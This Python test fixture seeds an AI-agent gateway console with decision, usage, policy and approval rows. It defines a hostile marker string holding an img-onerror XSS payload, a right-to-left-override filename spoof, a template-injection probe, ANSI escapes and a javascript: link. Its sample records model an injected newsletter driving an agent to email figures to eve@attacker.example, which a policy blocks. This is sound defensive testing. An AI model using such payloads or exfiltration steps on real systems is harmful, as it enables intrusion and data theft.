"""Rows for every page of the console: decisions, usage, policies, approvals, keys."""

from typing import Any

from tests.support.console_site import Site
from tests.support.control_rows import fill_control

from interlock.gateway.approvals.model import Question
from interlock.gateway.records import DecisionRecord, UsageRecord

__all__ = ["MARKER", "decision_of", "fill"]

MARKER = "<img src=x onerror=planted()>"
HOSTILE = f"{MARKER} \u202etxt.exe\u200b {{{{ 7*7 }}}} \x1b[31mred\x1b[0m [a](javascript:alert(1))"


def decision_of(site: Site, number: int, **changes: Any) -> DecisionRecord:
    """A decision of the administrator's account, `number` minutes old."""
    people = site.people["admin"]
    denied = number % 4 == 0
    values: dict[str, Any] = {
        "id": f"dec_{number:024x}",
        "at": site.app.clock.now().timestamp() - 60.0 * number - 5,
        "account_id": people.account_id,
        "key_id": "key_000000000000000000000001",
        "session_id": f"6b098d62-7ab9-87a1-b170-{number // 5:012x}",
        "request_id": f"req_{number:024x}",
        "trace_id": None,
        "surface": "control",
        "tool": "send_email" if denied else ("read_inbox", "search_files", "refund")[number % 3],
        "call_id": None,
        "verdict": "hard_denied" if denied else "soft_allowed",
        "reason": "rule" if denied else "default",
        "rule": "send_email#0" if denied else None,
        "rule_text": 'hard deny when body.tags overlaps {"untrusted"}' if denied else None,
        "rule_line": 5 if denied else None,
        "policy": "support-bot@1" if denied else None,
        "caller": {"user": people.email, "key": "support-bot", "surface": "control"},
        "args": {"to": "eve@attacker.example", "body": "Q3: 4.2M"} if denied else {"query": "q3"},
        "labels": {"args": {"body": {"tags": ["untrusted"]}} if denied else {}, "session": {}},
        "lineage": _lineage() if denied else {},
        "basis": {
            "bound": ["support-bot@1"],
            "header": None,
            "override": False,
            "mode": "standard",
            "presets": {},
            "values": "full",
        },
        "duration_s": 9e-6 + number * 1e-7,
    }
    return DecisionRecord(**{**values, **changes})


def _lineage() -> dict[str, Any]:
    return {
        "nodes": [
            {"id": "user", "kind": "user", "ref": "request"},
            {
                "id": "result:1",
                "kind": "tool_result",
                "tool": "read_inbox",
                "ref": "tc-1",
                "preview": "From: newsletter@deals.example",
            },
            {"id": "variable:1", "kind": "variable", "ref": "summary"},
            {"id": "argument:to", "kind": "argument", "ref": "to"},
            {"id": "argument:body", "kind": "argument", "ref": "body"},
        ],
        "edges": [
            {"from": "result:1", "to": "variable:1", "gained": {"tags": ["untrusted"]}, "at": 2},
            {"from": "variable:1", "to": "argument:body", "gained": {}, "at": 4},
            {"from": "user", "to": "argument:to", "gained": {}, "at": 4},
        ],
        "path": ["result:1", "variable:1", "argument:body"],
    }


_POLICY = """\
// what support-bot may do
let internal = to.value in {str like w"*@corp.example"};

tool "send_email" {
    hard deny when body.tags overlaps {"untrusted"};
    hard allow when internal;
    should allow always;
}
"""
_TESTS = """\
tests:
  - name: colleagues get mail
    call: {tool: send_email, args: {to: ann@corp.example, body: x}}
    want: {verdict: hard_allowed}
  - name: strangers get no mail
    call: {tool: send_email, args: {to: eve@evil.example, body: x}}
    want: {verdict: hard_denied}
"""


async def fill(site: Site) -> dict[str, str]:
    """Writes the rows; gives ids of some of them."""
    store, people = site.app.store, site.people["admin"]
    actor = people.actor
    await store.policies.save("support-bot", _POLICY, actor, note="first")
    await store.policies.add_tests("support-bot", [("tests", _TESTS)], actor)
    await store.policies.save("support-bot", _POLICY + '\ntool "x" { must deny always; }\n', actor)
    await store.bindings.bind("support-bot", "server", "", actor)
    for number in range(60):
        store.recorder.decision(decision_of(site, number))
    hostile = decision_of(
        site,
        0,
        id="dec_hostile",
        tool=HOSTILE,
        args={HOSTILE: HOSTILE, "long": "x" * 70_000},
        rule_text=HOSTILE,
        rule=HOSTILE,
        policy=HOSTILE,
        session_id=None,
        caller={"user": HOSTILE, "key": HOSTILE},
        lineage={
            "nodes": [{"id": HOSTILE, "kind": HOSTILE, "ref": HOSTILE, "preview": HOSTILE}],
            "edges": [{"from": HOSTILE, "to": HOSTILE, "gained": [HOSTILE], "by": HOSTILE}],
            "path": [HOSTILE],
        },
        labels={"args": {HOSTILE: {"tags": [HOSTILE]}}, "session": {"tags": [HOSTILE]}},
        guards=[{"name": HOSTILE}],
        shadow=[{"policy": HOSTILE, "verdict": "x", "rule": HOSTILE}],
    )
    store.recorder.decision(hostile)
    key = (await store.admin.keys())[0].id
    for day in range(20):
        for model, cost in (("gpt-5", 0.31), ("claude-sonnet", 0.52), ("demo", None)):
            store.recorder.usage(
                UsageRecord(
                    request_id=f"req_{day}_{model}",
                    at=site.app.clock.now().timestamp() - 86_400 * day,
                    account_id=people.account_id,
                    key_id=key,
                    session_id=None,
                    surface="control",
                    endpoint="chat/messages",
                    provider="openai",
                    model=model,
                    upstream_model=model,
                    role="main",
                    stream=False,
                    status=200,
                    input_tokens=1200 + 90 * day,
                    output_tokens=300,
                    cost=None if cost is None else cost * (1 + day % 5),
                )
            )
    assert await store.recorder.flush(wait_s=10)
    question = Question(
        decision_id="dec_000000000000000000000004",
        account_id=people.account_id,
        key_id="key_000000000000000000000001",
        session_id="6b098d62-7ab9-87a1-b170-000000000000",
        surface="control",
        asked_for="maya@corp.example",
        tool="issue_refund",
        rule="issue_refund#0: amount above 100",
        arguments={"amount": 180, "to": "customer 4711", "note": "long " * 400},
        labels={"note": {"tags": ["untrusted"]}},
        lineage=_lineage(),
        keep_values=True,
    )
    await store.approvals._open("apr_1", question)
    return await fill_control(site) | {
        "decision": "dec_000000000000000000000004",
        "hostile": "dec_hostile",
        "policy": "support-bot",
        "approval": "apr_1",
        "key": key,
    }
